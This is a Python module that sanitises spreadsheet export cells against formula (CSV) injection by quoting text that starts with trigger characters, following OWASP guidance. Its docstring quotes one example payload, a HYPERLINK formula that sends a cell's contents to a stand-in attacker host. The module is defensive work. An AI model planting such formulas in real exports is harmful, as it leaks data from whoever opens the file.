"""Spreadsheet formula injection (CSV injection): text that a spreadsheet would run.

A bank statement line such as `=HYPERLINK("http://evil/?"&A1,"Refund")` is harmless in the
database but becomes a live formula when a person opens an export of it in Excel or
LibreOffice. OWASP's rule (owasp.org/www-community/attacks/CSV_Injection): a text cell that
starts with = + - @, a tab or a carriage return is written with a leading single quote, so
the spreadsheet shows it as text. Numbers are written as numbers and never touched: -12.50
is an amount, not a formula. The full-width forms (U+FF1D and friends) are included because
some spreadsheet versions normalise them to the ASCII ones.
"""

from __future__ import annotations

from datetime import date
from decimal import Decimal

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")

Cell = str | Decimal | int | date | None


def starts_like_formula(text: str | None) -> bool:
    """Whether a spreadsheet could read `text`, written as a text cell, as a formula."""
    return text is not None and text.startswith(FORMULA_TRIGGERS)


def safe_cell(value: Cell) -> Cell:
    """`value` as an export writes it: text that starts like a formula gets a leading single
    quote; numbers, dates and empty cells are returned unchanged."""
    if isinstance(value, str) and starts_like_formula(value):
        return "'" + value
    return value
